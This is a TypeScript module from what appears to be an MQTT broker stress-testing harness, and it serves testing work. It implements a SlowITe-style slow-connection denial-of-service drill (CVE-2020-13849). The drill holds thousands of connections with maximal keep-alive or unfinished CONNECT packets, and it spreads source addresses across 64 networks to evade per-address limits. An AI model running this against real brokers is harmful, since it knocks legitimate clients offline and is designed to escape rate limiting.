import type { Socket } from 'node:net';
import { fromHex } from '@moat/testkit';
import { connectPacket } from '@moat/testkit/packets';
import type { Target } from '../broker/broker.js';
import { dial, spread } from '../dial.js';
import type { Drill, Run } from '../drill.js';
import { attackWith } from '../horde.js';
import { clientIdOf } from '../workload/client.js';

/** Networks that they come from, one address of each: no bound of one address or network stops them. */
const networks = 64;
/** Opened in a second: what is slow does not stand out. */
const pace = 600;
/** Longest that MQTT lets a client ask for, in seconds. */
const keepAlive = 65_535;

async function run({ broker, amount, signal, report }: Run): Promise<void> {
  const { opened, peak } = await attackWith({
    size: amount.count,
    most: Number.POSITIVE_INFINITY,
    pace,
    signal,
    open: (number) => openSlowly(broker, number),
  });
  report({
    tried: `hold ${amount.count} connections, of MQTT 3.1.1 and 5.0${broker.secure === undefined ? '' : ', with and without TLS'}`,
    happened: `up to ${peak} at once; ${opened - peak} were closed and opened again`,
    survived: true, // as the others will tell
  });
}

/** One of eight kinds: MQTT 3.1.1 or 5.0, plain or TLS, with a CONNECT or with none that ends. */
function openSlowly({ address, secure = address, insider: { credentials } }: Target, number: number): Socket {
  const version = number & 1 ? 5 : 4;
  const to = number & 2 ? secure : address;
  const clientId = clientIdOf(credentials, `slow${number}`);
  const connect = fromHex(connectPacket(version, { ...credentials, clientId, keepAlive }));
  const socket = dial(to, spread(number >> 3, networks));
  socket.write(number & 4 ? connect : connect.subarray(0, 6));
  socket.resume();
  return socket;
}

export const slowConnections: Drill = {
  name: 'slow-connections',
  summary: 'Holds connections that ask for the longest keep-alive there is, or never finish their CONNECT',
  seenIn: 'SlowITe, CVE-2020-13849',
  unit: 'connections at once',
  intensity: { small: { count: 200, seconds: 2 }, full: { count: 12_000, seconds: 40 } },
  workload: { connects: 0.999, messages: 0.95, growthMiB: 768, remains: 0.1, connectWithin: 250 },
  visits: 50,
  cheapPasswords: true,
  needs: 'address',
  run,
};
